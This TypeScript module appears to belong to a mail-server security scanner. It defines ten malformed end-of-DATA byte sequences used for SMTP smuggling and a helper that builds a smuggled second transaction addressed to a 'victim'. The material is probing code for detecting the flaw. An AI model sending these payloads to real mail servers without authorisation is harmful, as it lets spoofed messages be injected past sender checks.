/**
 * SMTP smuggling probes (F12): hannob/smtpsmug's ten bad endings of
 * DATA — bare LF and CR variants and NUL around the dot — and the smuggled transaction a probe
 * hides behind one. A server that takes any of these endings for the end of the data would read
 * the smuggled MAIL/RCPT/DATA as a second message; only CRLF.CRLF may end it.
 */

export const SEQUENCES: [name: string, bytes: string][] = [
  ['\\n.\\n', '\n.\n'],
  ['\\r.\\r', '\r.\r'],
  ['\\r.\\n', '\r.\n'],
  ['\\n.\\r', '\n.\r'],
  ['\\n.\\r\\n', '\n.\r\n'],
  ['\\r\\n.\\n', '\r\n.\n'],
  ['\\r.\\r\\n', '\r.\r\n'],
  ['\\r\\n.\\r', '\r\n.\r'],
  ['\\r\\n\\0.\\r\\n', '\r\n\0.\r\n'],
  ['\\r\\n.\\0\\r\\n', '\r\n.\0\r\n'],
];

/** The transaction a probe smuggles after the bad ending: from smuggler@x.test to `victim`. */
export const smuggled = (victim: string) => `MAIL FROM:<smuggler@x.test>\r\nRCPT TO:<${victim}>\r\nDATA\r\nSubject: SMUGGLED\r\n\r\nsmuggled body\r\n`;
